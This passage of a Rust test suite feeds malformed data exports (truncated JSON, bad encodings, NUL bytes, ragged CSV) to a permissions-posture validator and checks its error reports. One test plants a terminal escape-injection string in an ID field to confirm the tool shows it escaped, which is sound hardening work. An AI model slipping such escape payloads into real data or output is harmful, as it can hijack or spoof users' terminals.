//! The malformed-input corpus (hardening): each case damages one file of a copy of the `rules/base` export and
//! checks the exact outcome of `dvposture validate --json`: the exit code, the table's status and counts, and
//! the problem with its file, position (line and column, JSON path), column and what was expected. Text cases
//! are files under `tests/fixtures/malformed/<case>/`; binary and large ones are made here. The two big cases
//! (a 1 GiB NDJSON line, gzip bombs) also bound the peak memory of the child process.

use std::io::Write;
use std::path::Path;

use serde_json::{json, Value};

use crate::common::*;

/// What the big cases may use, whatever the input's size.
const MEMORY_BOUND: u64 = 512 << 20;

/// A copy of the base export (valid, every table present).
fn base() -> tempfile::TempDir {
    copy_fixture("rules/base")
}

/// Puts `name` in the export in place of its table's files (other formats, pages and `.gz` included).
fn put(dir: &Path, name: &str, bytes: &[u8]) {
    let table = dvposture::ingest::source::table_of(name).unwrap();
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        if dvposture::ingest::source::table_of(&entry.file_name().to_string_lossy()) == Some(table) {
            std::fs::remove_file(entry.path()).unwrap();
        }
    }
    std::fs::write(dir.join(name), bytes).unwrap();
}

/// The base export with the files of `tests/fixtures/malformed/<case>/` in place of the base's.
fn with_fixture(case: &str) -> tempfile::TempDir {
    let dir = base();
    for entry in std::fs::read_dir(fixture("malformed").join(case)).unwrap() {
        let entry = entry.unwrap();
        put(
            dir.path(),
            &entry.file_name().to_string_lossy(),
            &std::fs::read(entry.path()).unwrap(),
        );
    }
    dir
}

fn base_file(name: &str) -> Vec<u8> {
    std::fs::read(fixture("rules/base").join(name)).unwrap()
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// `bytes` with the first occurrence of `from` replaced by `to`.
fn replace(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = find(bytes, from).unwrap_or_else(|| panic!("{:?} not found", String::from_utf8_lossy(from)));
    [&bytes[..at], to, &bytes[at + from.len()..]].concat()
}

/// The base export with the first `from` in `file` replaced by `to`; and the edited text.
fn edited(file: &str, from: &str, to: &str) -> (tempfile::TempDir, Vec<u8>) {
    edited_bytes(file, from.as_bytes(), to.as_bytes())
}

fn edited_bytes(file: &str, from: &[u8], to: &[u8]) -> (tempfile::TempDir, Vec<u8>) {
    let dir = base();
    let text = replace(&base_file(file), from, to);
    std::fs::write(dir.path().join(file), &text).unwrap();
    (dir, text)
}

/// 1-based (line, column in bytes) of a byte offset.
fn position(text: &[u8], offset: usize) -> (u64, u64) {
    let before = &text[..offset];
    let line = before.iter().filter(|&&b| b == b'\n').count() as u64 + 1;
    let start = before.iter().rposition(|&b| b == b'\n').map_or(0, |p| p + 1);
    (line, (offset - start) as u64 + 1)
}

/// Where the value of the first `"key": value` snippet `snippet` starts (what a row problem points at).
fn value_at(text: &[u8], snippet: &str) -> (u64, u64) {
    let at = find(text, snippet.as_bytes()).unwrap();
    let value = snippet.find(": ").map_or(0, |i| i + 2);
    position(text, at + value)
}

/// One problem as `validate --json` writes it.
struct P<'a> {
    file: &'a str,
    line: Option<u64>,
    column: Option<u64>,
    path: Option<&'a str>,
    field: Option<&'a str>,
    kind: &'a str,
    message: &'a str,
}

impl P<'_> {
    fn json(&self) -> Value {
        let mut v = json!({
            "file": self.file, "line": self.line, "column": self.column, "kind": self.kind, "message": self.message,
        });
        if let Some(p) = self.path {
            v["json_path"] = json!(p);
        }
        if let Some(f) = self.field {
            v["field"] = json!(f);
        }
        v
    }
}

/// A skipped row in a JSON page: at (line, column) of `$.value[row]`, column `field`.
fn json_row<'a>(file: &'a str, (line, column): (u64, u64), path: &'a str, field: &'a str, message: &'a str) -> P<'a> {
    P {
        file,
        line: Some(line),
        column: Some(column),
        path: Some(path),
        field: Some(field),
        kind: "skipped_row",
        message,
    }
}

/// A skipped row of an NDJSON or CSV file (no JSON path).
fn line_row<'a>(file: &'a str, line: u64, column: u64, field: Option<&'a str>, message: &'a str) -> P<'a> {
    P {
        file,
        line: Some(line),
        column: Some(column),
        path: None,
        field,
        kind: "skipped_row",
        message,
    }
}

/// A file that could not be read at all (its table is dropped).
fn unreadable<'a>(file: &'a str, at: Option<(u64, u64)>, message: &'a str) -> P<'a> {
    P {
        file,
        line: at.map(|a| a.0),
        column: at.map(|a| a.1),
        path: None,
        field: None,
        kind: "unreadable_file",
        message,
    }
}

struct Validation {
    code: i32,
    json: Value,
}

fn validate(dir: &Path) -> Validation {
    let r = dvposture(&["validate", "--json", dir.to_str().unwrap()]);
    assert!(r.code == 0 || r.code == 2, "exit {}: {}", r.code, r.stderr);
    assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
    let json: Value = serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("{e}: {}", r.stdout));
    assert_eq!(json["usable"], r.code == 0, "usable and the exit code agree");
    Validation { code: r.code, json }
}

impl Validation {
    fn table(&self, table: &str) -> &Value {
        self.json["inputs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["table"] == table)
            .unwrap()
    }

    /// Exit code, and the table's status, rows, skipped rows and problem count.
    fn expect(&self, code: i32, table: &str, status: &str, rows: u64, skipped: u64, problems: u64) -> &Self {
        let t = self.table(table);
        assert_eq!(
            (
                self.code,
                t["status"].as_str().unwrap(),
                t["rows"].as_u64().unwrap(),
                t["skipped"].as_u64().unwrap(),
                t["problem_count"].as_u64().unwrap()
            ),
            (code, status, rows, skipped, problems),
            "(exit, status, rows, skipped, problems) of {table}: {t:#}"
        );
        self
    }

    /// The table's problems include `p`, exactly.
    fn has(&self, table: &str, p: P) -> &Self {
        let want = p.json();
        let problems = self.table(table)["problems"].as_array().unwrap();
        assert!(
            problems.contains(&want),
            "{want:#} not among the problems of {table}: {problems:#?}"
        );
        self
    }

    /// The export is unusable because of `p` (a fatal problem).
    fn fatal(&self, p: P) -> &Self {
        let want = P { kind: "fatal", ..p }.json();
        let fatal = self.json["fatal"].as_array().unwrap();
        assert_eq!(self.code, 2);
        assert!(
            fatal.contains(&want),
            "{want:#} not among the fatal problems: {fatal:#?}"
        );
        self
    }
}

fn analyze(dir: &Path, formats: &str) -> (Run, std::path::PathBuf) {
    analyze_into_out(dir, &["--format", formats, "--as-of", "2026-11-23"])
}

#[test]
fn the_base_export_is_valid_and_clean() {
    let v = validate(base().path());
    assert_eq!(v.code, 0);
    for t in v.json["inputs"].as_array().unwrap() {
        assert_eq!(t["problem_count"], 0, "{t:#}");
    }
    assert_eq!(v.json["dangling_references"], json!([]));
}

// ---------------------------------------------------------------------------------------------------------------
// Truncated JSON

#[test]
fn json_truncated_mid_string_in_a_required_table_stops_the_run() {
    let dir = with_fixture("truncated-mid-string");
    let msg = "invalid JSON: EOF while parsing a string (the file is truncated)";
    validate(dir.path())
        .expect(2, "systemusers", "missing", 0, 0, 2)
        .has("systemusers", unreadable("systemusers.json", Some((6, 23)), msg))
        .fatal(unreadable("systemusers.json", Some((6, 23)), msg));
    let (r, out) = analyze(dir.path(), "all");
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains(&format!("error: systemusers.json:6:23: {msg}")),
        "{}",
        r.stderr
    );
    assert!(!out.join("report.json").exists(), "no report from an unusable export");
}

#[test]
fn json_truncated_mid_array_drops_the_optional_table() {
    // Cut after "},\n": serde_json says column 0 (EOF at the start of a line); positions are 1-based.
    validate(with_fixture("truncated-mid-array").path())
        .expect(0, "teams", "missing", 0, 0, 1)
        .has(
            "teams",
            unreadable(
                "teams.json",
                Some((26, 1)),
                "invalid JSON: EOF while parsing a value (the file is truncated)",
            ),
        );
}

#[test]
fn json_truncated_mid_array_has_a_one_based_column() {
    validate(with_fixture("truncated-mid-array").path()).has(
        "teams",
        unreadable(
            "teams.json",
            Some((26, 1)),
            "invalid JSON: EOF while parsing a value (the file is truncated)",
        ),
    );
}

#[test]
fn json_truncated_after_value_key() {
    validate(with_fixture("truncated-after-value").path())
        .expect(0, "teams", "missing", 0, 0, 1)
        .has(
            "teams",
            unreadable(
                "teams.json",
                Some((3, 8)),
                "invalid JSON: EOF while parsing an object (the file is truncated)",
            ),
        );
}

#[test]
fn json_single_object_file_truncated_after_a_newline_has_column_1() {
    let dir = base();
    put(dir.path(), "environment.json", b"{\n \"name\": \"x\",\n");
    validate(dir.path()).expect(0, "environment", "missing", 0, 0, 1).has(
        "environment",
        unreadable(
            "environment.json",
            Some((3, 1)),
            "invalid JSON: EOF while parsing a value (the file is truncated)",
        ),
    );
}

#[test]
fn json_unclosed_nesting_is_truncation() {
    let dir = base();
    put(dir.path(), "teams.json", &vec![b'['; 100_000]);
    validate(dir.path()).expect(0, "teams", "missing", 0, 0, 1).has(
        "teams",
        unreadable(
            "teams.json",
            Some((1, 100_000)),
            "invalid JSON: EOF while parsing a list (the file is truncated)",
        ),
    );
}

// ---------------------------------------------------------------------------------------------------------------
// Wrong types

#[test]
fn a_string_for_an_option_set_number() {
    let (dir, text) = edited("systemusers.json", r#""accessmode": 0"#, r#""accessmode": "zero""#);
    validate(dir.path())
        .expect(0, "systemusers", "partial", 6, 1, 1)
        .has(
            "systemusers",
            json_row(
                "systemusers.json",
                value_at(&text, r#""accessmode": "zero""#),
                "$.value[0]",
                "accessmode",
                r#"expected a number or one of Read-Write, Administrative, Read, Support User, Non-interactive, Delegated Admin, found "zero""#,
            ),
        );
}

#[test]
fn a_string_for_an_integer() {
    let (dir, text) = edited(
        "organizations.json",
        r#""auditretentionperiodv2": 365"#,
        r#""auditretentionperiodv2": "forever""#,
    );
    validate(dir.path()).expect(0, "organizations", "partial", 0, 1, 1).has(
        "organizations",
        json_row(
            "organizations.json",
            value_at(&text, r#""auditretentionperiodv2": "forever""#),
            "$.value[0]",
            "auditretentionperiodv2",
            r#"expected an integer, found "forever""#,
        ),
    );
}

#[test]
fn an_object_for_a_guid() {
    let from = r#""_businessunitid_value": "a1000000-0000-0000-0000-000000000001""#;
    let to = r#""_businessunitid_value": {"id": 1}"#;
    let (dir, text) = edited("systemusers.json", from, to);
    validate(dir.path()).expect(0, "systemusers", "partial", 6, 1, 1).has(
        "systemusers",
        json_row(
            "systemusers.json",
            value_at(&text, to),
            "$.value[0]",
            "businessunitid",
            r#"expected a GUID, found "{\"id\": 1}""#,
        ),
    );
}

#[test]
fn an_array_for_a_boolean() {
    let (dir, text) = edited("systemusers.json", r#""isdisabled": false"#, r#""isdisabled": [false]"#);
    validate(dir.path()).expect(0, "systemusers", "partial", 6, 1, 1).has(
        "systemusers",
        json_row(
            "systemusers.json",
            value_at(&text, r#""isdisabled": [false]"#),
            "$.value[0]",
            "isdisabled",
            r#"expected a boolean, found "[false]""#,
        ),
    );
}

#[test]
fn null_in_a_required_column() {
    let (dir, text) = edited(
        "teams.json",
        r#""teamid": "d1000000-0000-0000-0000-000000000002""#,
        r#""teamid": null"#,
    );
    validate(dir.path()).expect(0, "teams", "partial", 3, 1, 1).has(
        "teams",
        json_row(
            "teams.json",
            value_at(&text, r#""teamid": null"#),
            "$.value[1]",
            "teamid",
            "required value is missing",
        ),
    );
}

#[test]
fn a_number_for_a_guid_in_a_required_table() {
    let (dir, text) = edited(
        "roles.json",
        r#""roleid": "c1000000-0000-0000-0000-000000000001""#,
        r#""roleid": 12345"#,
    );
    validate(dir.path()).expect(0, "roles", "partial", 9, 1, 1).has(
        "roles",
        json_row(
            "roles.json",
            value_at(&text, r#""roleid": 12345"#),
            "$.value[0]",
            "roleid",
            r#"expected a GUID, found "12345""#,
        ),
    );
}

#[test]
fn a_managed_property_object_of_the_wrong_shape() {
    let (dir, text) = edited("roles.json", r#""ismanaged": true"#, r#""ismanaged": {"Value": "yes"}"#);
    validate(dir.path()).expect(0, "roles", "partial", 9, 1, 1).has(
        "roles",
        json_row(
            "roles.json",
            value_at(&text, r#""ismanaged": {"Value": "yes"}"#),
            "$.value[0]",
            "ismanaged",
            r#"expected a boolean or {"Value": boolean}, found "{\"Value\": \"yes\"}""#,
        ),
    );
}

// ---------------------------------------------------------------------------------------------------------------
// Encodings

fn utf16(text: &[u8], little_endian: bool, bom: bool) -> Vec<u8> {
    let text = std::str::from_utf8(text).unwrap().trim_start_matches('\u{feff}');
    let mut out = match (bom, little_endian) {
        (false, _) => Vec::new(),
        (true, true) => vec![0xFF, 0xFE],
        (true, false) => vec![0xFE, 0xFF],
    };
    for u in text.encode_utf16() {
        out.extend(if little_endian {
            u.to_le_bytes()
        } else {
            u.to_be_bytes()
        });
    }
    out
}

const UTF16_NOTE: &str = "the file is UTF-16 (spreadsheet \"Unicode text\"); it was decoded, but save exports as UTF-8";
const UTF16_NO_BOM: &str = "the file looks like UTF-16 without a byte-order mark; save it as UTF-8 and export again";

fn note<'a>(file: &'a str, message: &'a str) -> P<'a> {
    P {
        file,
        line: None,
        column: None,
        path: None,
        field: None,
        kind: "note",
        message,
    }
}

#[test]
fn invalid_utf8_in_json_makes_the_page_unreadable_with_its_position() {
    let (dir, text) = edited_bytes("teams.json", br#""name": "Sales""#, b"\"name\": \"Sa\xFFles\"");
    let at = position(&text, find(&text, b"\xFF").unwrap());
    validate(dir.path()).expect(0, "teams", "missing", 0, 0, 1).has(
        "teams",
        unreadable("teams.json", Some(at), "invalid JSON: invalid unicode code point"),
    );
}

#[test]
fn invalid_utf8_in_ndjson_skips_the_line() {
    let (dir, text) = edited_bytes(
        "audits.ndjson",
        br#""objecttypecode": "account""#,
        b"\"objecttypecode\": \"acc\xFFount\"",
    );
    let at = position(&text, find(&text, b"\xFF").unwrap());
    validate(dir.path()).expect(0, "audits", "partial", 25, 1, 1).has(
        "audits",
        line_row(
            "audits.ndjson",
            at.0,
            at.1,
            None,
            "invalid UTF-8; save the file as UTF-8",
        ),
    );
}

#[test]
fn invalid_utf8_in_a_csv_field_skips_the_row() {
    let (dir, _) = edited_bytes(
        "teammemberships.csv",
        b"b1000000-0000-0000-0000-000000000003",
        b"b1000000-0000-0000-0000-00000000000\xFF",
    );
    validate(dir.path())
        .expect(0, "teammemberships", "partial", 2, 1, 1)
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                3,
                2,
                None,
                "invalid UTF-8; save the file as UTF-8",
            ),
        );
}

#[test]
fn invalid_utf8_in_a_csv_header_drops_the_file() {
    let (dir, _) = edited_bytes("teammemberships.csv", b"teamid", b"team\xFFid");
    validate(dir.path())
        .expect(0, "teammemberships", "missing", 0, 0, 1)
        .has(
            "teammemberships",
            unreadable(
                "teammemberships.csv",
                Some((1, 1)),
                "the header is not UTF-8; save the file as UTF-8",
            ),
        );
}

#[test]
fn utf16_le_csv_with_a_bom_is_decoded_and_noted() {
    let dir = base();
    put(
        dir.path(),
        "teammemberships.csv",
        &utf16(&base_file("teammemberships.csv"), true, true),
    );
    validate(dir.path())
        .expect(0, "teammemberships", "read", 3, 0, 1)
        .has("teammemberships", note("teammemberships.csv", UTF16_NOTE));
}

#[test]
fn utf16_be_ndjson_with_a_bom_is_decoded_and_noted() {
    let dir = base();
    put(
        dir.path(),
        "audits.ndjson",
        &utf16(&base_file("audits.ndjson"), false, true),
    );
    validate(dir.path())
        .expect(0, "audits", "read", 26, 0, 1)
        .has("audits", note("audits.ndjson", UTF16_NOTE));
}

#[test]
fn utf16_le_json_with_a_bom_is_decoded_and_noted() {
    let dir = base();
    put(dir.path(), "teams.json", &utf16(&base_file("teams.json"), true, true));
    validate(dir.path())
        .expect(0, "teams", "read", 4, 0, 1)
        .has("teams", note("teams.json", UTF16_NOTE));
}

#[test]
fn utf16_be_json_without_a_bom_is_rejected_never_misread() {
    let dir = base();
    put(
        dir.path(),
        "systemusers.json",
        &utf16(&base_file("systemusers.json"), false, false),
    );
    validate(dir.path())
        .expect(2, "systemusers", "missing", 0, 0, 2)
        .fatal(unreadable("systemusers.json", None, UTF16_NO_BOM));
}

#[test]
fn utf16_le_ndjson_without_a_bom_is_rejected() {
    let dir = base();
    put(
        dir.path(),
        "audits.ndjson",
        &utf16(&base_file("audits.ndjson"), true, false),
    );
    validate(dir.path())
        .expect(0, "audits", "missing", 0, 0, 1)
        .has("audits", unreadable("audits.ndjson", None, UTF16_NO_BOM));
}

#[test]
fn utf16_with_an_odd_byte_count_is_malformed() {
    let dir = base();
    let mut bytes = utf16(&base_file("teammemberships.csv"), true, true);
    bytes.push(b'x');
    let at = bytes.len() - 1;
    put(dir.path(), "teammemberships.csv", &bytes);
    validate(dir.path())
        .expect(0, "teammemberships", "missing", 0, 0, 1)
        .has(
            "teammemberships",
            unreadable(
                "teammemberships.csv",
                None,
                &format!("the UTF-16 text is malformed at byte {at}"),
            ),
        );
}

#[test]
fn utf16_with_a_lone_surrogate_is_malformed() {
    let dir = base();
    let mut bytes = utf16(&base_file("teammemberships.csv"), true, true);
    let at = bytes.len();
    bytes.extend([0x00, 0xD8, b'a', 0x00]);
    put(dir.path(), "teammemberships.csv", &bytes);
    validate(dir.path())
        .expect(0, "teammemberships", "missing", 0, 0, 1)
        .has(
            "teammemberships",
            unreadable(
                "teammemberships.csv",
                None,
                &format!("the UTF-16 text is malformed at byte {at}"),
            ),
        );
}

#[test]
fn a_bom_then_garbage_in_json() {
    let dir = base();
    put(dir.path(), "teams.json", b"\xEF\xBB\xBF\x89PNG\r\n\x1a\n garbage");
    validate(dir.path()).expect(0, "teams", "missing", 0, 0, 1).has(
        "teams",
        unreadable(
            "teams.json",
            Some((1, 1)),
            "expected a JSON object (an OData response) or array",
        ),
    );
}

#[test]
fn a_bom_then_garbage_in_ndjson_skips_that_line_only() {
    let dir = base();
    put(
        dir.path(),
        "audits.ndjson",
        b"\xEF\xBB\xBFnot json at all\n{\"createdon\": \"2026-11-10T08:00:00Z\", \"action\": 64}\n",
    );
    validate(dir.path())
        .expect(0, "audits", "partial", 1, 1, 1)
        // serde_json stops at the "o" of "not" (it expected "null").
        .has("audits", line_row("audits.ndjson", 1, 2, None, "expected ident"));
}

#[test]
fn a_bom_then_binary_in_csv() {
    let dir = base();
    put(
        dir.path(),
        "teammemberships.csv",
        b"\xEF\xBB\xBF\x89PNG\r\n\x1a\n\x00\x00garbage",
    );
    validate(dir.path())
        .expect(0, "teammemberships", "missing", 0, 0, 1)
        .has(
            "teammemberships",
            unreadable(
                "teammemberships.csv",
                Some((1, 1)),
                "the header is not UTF-8; save the file as UTF-8",
            ),
        );
}

// ---------------------------------------------------------------------------------------------------------------
// Line endings, NUL bytes, control characters

#[test]
fn crlf_csv_is_read() {
    let csv = String::from_utf8(base_file("teammemberships.csv"))
        .unwrap()
        .replace('\n', "\r\n");
    let dir = base();
    put(dir.path(), "teammemberships.csv", csv.as_bytes());
    validate(dir.path()).expect(0, "teammemberships", "read", 3, 0, 0);
}

#[test]
fn cr_only_csv_is_read() {
    let csv = String::from_utf8(base_file("teammemberships.csv"))
        .unwrap()
        .replace('\n', "\r");
    let dir = base();
    put(dir.path(), "teammemberships.csv", csv.as_bytes());
    validate(dir.path()).expect(0, "teammemberships", "read", 3, 0, 0);
}

#[test]
fn crlf_csv_counts_lines_right() {
    let csv = String::from_utf8(base_file("teammemberships.csv"))
        .unwrap()
        .replace('\n', "\r\n");
    let csv = csv.replacen("b1000000-0000-0000-0000-000000000003", "not-a-guid", 1);
    let dir = base();
    put(dir.path(), "teammemberships.csv", csv.as_bytes());
    validate(dir.path())
        .expect(0, "teammemberships", "partial", 2, 1, 1)
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                3,
                2,
                Some("systemuserid"),
                r#"expected a GUID, found "not-a-guid""#,
            ),
        );
}

#[test]
fn cr_only_csv_counts_lines_by_cr() {
    // A lone CR is a line break, as editors show it; so is CRLF (one), including inside a quoted field.
    let csv = String::from_utf8(base_file("teammemberships.csv"))
        .unwrap()
        .replace('\n', "\r");
    let csv = csv.replacen("b1000000-0000-0000-0000-000000000003", "not-a-guid", 1);
    let csv = csv.replacen(
        "b1000000-0000-0000-0000-000000000004",
        "\"two\r\nlines\"\rd1000000-0000-0000-0000-000000000004,x",
        1,
    );
    let dir = base();
    put(dir.path(), "teammemberships.csv", csv.as_bytes());
    validate(dir.path())
        .expect(0, "teammemberships", "partial", 1, 3, 3)
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                3,
                2,
                Some("systemuserid"),
                r#"expected a GUID, found "not-a-guid""#,
            ),
        )
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                4,
                2,
                Some("systemuserid"),
                r#"expected a GUID, found "two\r\nlines""#,
            ),
        )
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                6,
                2,
                Some("systemuserid"),
                r#"expected a GUID, found "x""#,
            ),
        );
}

#[test]
fn crlf_ndjson_counts_lines_and_columns_right() {
    let nd = String::from_utf8(base_file("audits.ndjson"))
        .unwrap()
        .replace('\n', "\r\n");
    let nd = nd.replacen(r#""action": 2,"#, r#""action": "two","#, 1);
    let dir = base();
    put(dir.path(), "audits.ndjson", nd.as_bytes());
    let (line, column) = value_at(nd.as_bytes(), r#""action": "two""#);
    validate(dir.path()).expect(0, "audits", "partial", 25, 1, 1).has(
        "audits",
        line_row(
            "audits.ndjson",
            line,
            column,
            Some("action"),
            r#"expected an integer, found "two""#,
        ),
    );
}

#[test]
fn a_nul_byte_in_a_json_string_makes_the_page_unreadable() {
    let (dir, text) = edited_bytes("teams.json", br#""name": "Sales""#, b"\"name\": \"Sa\x00les\"");
    // serde_json points at the last byte before the control character.
    let at = position(&text, find(&text, b"\x00").unwrap() - 1);
    validate(dir.path()).expect(0, "teams", "missing", 0, 0, 1).has(
        "teams",
        unreadable(
            "teams.json",
            Some(at),
            "invalid JSON: control character (\\u0000-\\u001F) found while parsing a string",
        ),
    );
}

#[test]
fn a_nul_byte_in_ndjson_skips_the_line() {
    let (dir, text) = edited_bytes(
        "audits.ndjson",
        br#""objecttypecode": "account""#,
        b"\"objecttypecode\": \"acc\x00ount\"",
    );
    // serde_json points at the last byte before the control character, as in a JSON page.
    let (line, column) = position(&text, find(&text, b"\x00").unwrap() - 1);
    validate(dir.path()).expect(0, "audits", "partial", 25, 1, 1).has(
        "audits",
        line_row(
            "audits.ndjson",
            line,
            column,
            None,
            "control character (\\u0000-\\u001F) found while parsing a string",
        ),
    );
}

#[test]
fn a_nul_byte_in_a_csv_guid_is_shown_escaped() {
    let (dir, _) = edited_bytes(
        "teammemberships.csv",
        b"b1000000-0000-0000-0000-000000000003",
        b"b1000000-0000-0000-0000-000000000003\x00",
    );
    validate(dir.path())
        .expect(0, "teammemberships", "partial", 2, 1, 1)
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                3,
                2,
                Some("systemuserid"),
                r#"expected a GUID, found "b1000000-0000-0000-0000-000000000003\0""#,
            ),
        );
}

#[test]
fn a_file_of_nul_bytes_is_damaged_not_utf16() {
    let dir = base();
    put(dir.path(), "roles.json", &[0u8; 4096]);
    validate(dir.path())
        .expect(2, "roles", "missing", 0, 0, 2)
        .fatal(unreadable(
            "roles.json",
            None,
            "the file is mostly NUL bytes: it is damaged or not a text export; export it again",
        ));
}

#[test]
fn control_characters_are_kept_in_names_and_escaped_in_messages() {
    // A name with an escape sequence is data (kept); a broken id with one is shown escaped, never raw.
    let (dir, _) = edited("teams.json", r#""name": "Sales""#, r#""name": "Sa\u001b[31mles\u0007""#);
    validate(dir.path()).expect(0, "teams", "read", 4, 0, 0);
    let (dir, text) = edited(
        "teams.json",
        r#""teamid": "d1000000-0000-0000-0000-000000000002""#,
        r#""teamid": "\u001b]0;pwned\u0007""#,
    );
    validate(dir.path()).expect(0, "teams", "partial", 3, 1, 1).has(
        "teams",
        json_row(
            "teams.json",
            value_at(&text, r#""teamid": "\u001b"#),
            "$.value[1]",
            "teamid",
            r#"expected a GUID, found "\u{1b}]0;pwned\u{7}""#,
        ),
    );
    let r = dvposture(&["validate", dir.path().to_str().unwrap()]);
    assert!(!r.stdout.contains('\u{1b}'), "no raw escape reaches the terminal");
}

#[test]
fn a_raw_control_character_in_a_json_string_is_invalid_json() {
    let (dir, text) = edited_bytes("teams.json", br#""name": "Sales""#, b"\"name\": \"Sa\x1bles\"");
    // serde_json points at the last byte before the control character.
    let at = position(&text, find(&text, b"\x1b").unwrap() - 1);
    validate(dir.path()).expect(0, "teams", "missing", 0, 0, 1).has(
        "teams",
        unreadable(
            "teams.json",
            Some(at),
            "invalid JSON: control character (\\u0000-\\u001F) found while parsing a string",
        ),
    );
}

// ---------------------------------------------------------------------------------------------------------------
// Empty files

const EMPTY: &str = "the file is empty: expected a JSON document (an OData response, an array or an object)";

#[test]
fn a_zero_byte_optional_json_file_is_unreadable_not_an_empty_table() {
    let dir = base();
    put(dir.path(), "principalobjectaccessset.json", b"");
    validate(dir.path())
        .expect(0, "principalobjectaccessset", "missing", 0, 0, 1)
        .has(
            "principalobjectaccessset",
            unreadable("principalobjectaccessset.json", None, EMPTY),
        );
    // Its rules are not evaluated (never passed on an empty table).
    let (r, out) = analyze(dir.path(), "json");
    assert_eq!(r.code, 0, "{}", r.stderr);
    let report: Value = serde_json::from_slice(&std::fs::read(out.join("report.json")).unwrap()).unwrap();
    let rule = report["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == "excessive-sharing")
        .unwrap();
    assert_eq!(rule["status"], "not_evaluated", "{rule}");
}

#[test]
fn a_zero_byte_required_json_file_stops_the_run() {
    let dir = base();
    put(dir.path(), "systemusers.json", b"");
    validate(dir.path())
        .expect(2, "systemusers", "missing", 0, 0, 2)
        .fatal(unreadable("systemusers.json", None, EMPTY));
}

#[test]
fn a_whitespace_only_json_file_is_empty() {
    validate(with_fixture("whitespace-only").path())
        .expect(0, "teams", "missing", 0, 0, 1)
        .has("teams", unreadable("teams.json", None, EMPTY));
}

#[test]
fn a_gzip_of_nothing_is_empty() {
    let dir = base();
    put(dir.path(), "teams.json.gz", &gzip_bytes(b""));
    validate(dir.path())
        .expect(0, "teams", "missing", 0, 0, 1)
        .has("teams", unreadable("teams.json.gz", None, EMPTY));
}

#[test]
fn an_empty_object_is_one_row_without_the_required_columns() {
    let required = "required column is missing from every row: add it to the export's $select or header";
    let v = validate(with_fixture("empty-object").path());
    v.expect(2, "teams", "partial", 0, 1, 6).has(
        "teams",
        P {
            file: "teams.json",
            line: Some(1),
            column: Some(1),
            path: Some("$"),
            field: Some("teamid"),
            kind: "skipped_row",
            message: "required value is missing",
        },
    );
    for field in ["teamid", "name", "businessunitid"] {
        v.fatal(P {
            field: Some(field),
            ..unreadable("teams.json", None, required)
        });
    }
}

#[test]
fn an_empty_value_array_is_an_empty_table() {
    validate(with_fixture("empty-value").path()).expect(0, "systemusers", "read", 0, 0, 0);
}

#[test]
fn a_zero_byte_ndjson_file_is_an_empty_table() {
    let dir = base();
    put(dir.path(), "audits.ndjson", b"");
    validate(dir.path()).expect(0, "audits", "read", 0, 0, 0);
}

#[test]
fn a_csv_of_blank_lines_has_no_header_and_is_unreadable() {
    let dir = base();
    put(dir.path(), "teammemberships.csv", b"\r\n  \r\n\n");
    validate(dir.path())
        .expect(0, "teammemberships", "missing", 0, 0, 1)
        .has(
            "teammemberships",
            unreadable("teammemberships.csv", None, "the file is empty: expected a header row"),
        );
}

#[test]
fn a_header_only_csv_is_an_empty_table() {
    validate(with_fixture("header-only").path()).expect(0, "teammemberships", "read", 0, 0, 0);
}

#[test]
fn a_zero_byte_csv_has_no_header_and_is_unreadable() {
    let dir = base();
    put(dir.path(), "teammemberships.csv", b"");
    validate(dir.path())
        .expect(0, "teammemberships", "missing", 0, 0, 1)
        .has(
            "teammemberships",
            unreadable("teammemberships.csv", None, "the file is empty: expected a header row"),
        );
}

// ---------------------------------------------------------------------------------------------------------------
// CSV structure

#[test]
fn csv_ragged_rows_are_skipped_with_their_line() {
    validate(with_fixture("ragged-rows").path())
        .expect(0, "teammemberships", "partial", 2, 2, 2)
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                3,
                1,
                None,
                "expected 2 fields as in the header, found 1",
            ),
        )
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                4,
                1,
                None,
                "expected 2 fields as in the header, found 3",
            ),
        );
}

#[test]
fn csv_missing_a_required_column_stops_the_run() {
    validate(with_fixture("missing-column").path())
        .expect(2, "fieldpermissions", "read", 0, 0, 1)
        .fatal(P {
            field: Some("entityname"),
            ..unreadable(
                "fieldpermissions.csv",
                Some((1, 1)),
                "required column is missing from the header",
            )
        });
}

#[test]
fn csv_unterminated_quote_swallows_the_rest_as_one_field() {
    validate(with_fixture("unterminated-quote").path())
        .expect(0, "teammemberships", "partial", 1, 1, 1)
        .has(
            "teammemberships",
            line_row(
                "teammemberships.csv",
                3,
                1,
                None,
                "expected 2 fields as in the header, found 1",
            ),
        );
}

#[test]
fn csv_a_column_named_twice_in_the_header_is_reported() {
    let v = validate(with_fixture("duplicate-column").path());
    let problems = &v.table("teammemberships")["problems"];
    assert!(
        problems.to_string().contains("systemuserid"),
        "the duplicate column is reported: {problems:#}"
    );
}

#[test]
fn csv_a_column_named_twice_is_noted_and_rows_whose_copies_differ_are_skipped() {
    let dir = base();
    let csv = "teamid,systemuserid,_systemuserid_value\n\
               d1000000-0000-0000-0000-000000000003,b1000000-0000-0000-0000-000000000002,b1000000-0000-0000-0000-000000000002\n\
               d1000000-0000-0000-0000-000000000004,,b1000000-0000-0000-0000-000000000003\n\
               d1000000-0000-0000-0000-000000000004,b1000000-0000-0000-0000-000000000004,b1000000-0000-0000-0000-000000000003\n";
    put(dir.path(), "teammemberships.csv", csv.as_bytes());
    validate(dir.path())
        .expect(0, "teammemberships", "partial", 2, 1, 2)
        .has(
            "teammemberships",
            P {
                file: "teammemberships.csv",
                line: Some(1),
                column: Some(3),
                path: None,
                field: Some("systemuserid"),
                kind: "note",
                message: "the header names this column twice (fields 2 and 3): a row whose copies hold different values is skipped",
            },
        )
        .has(
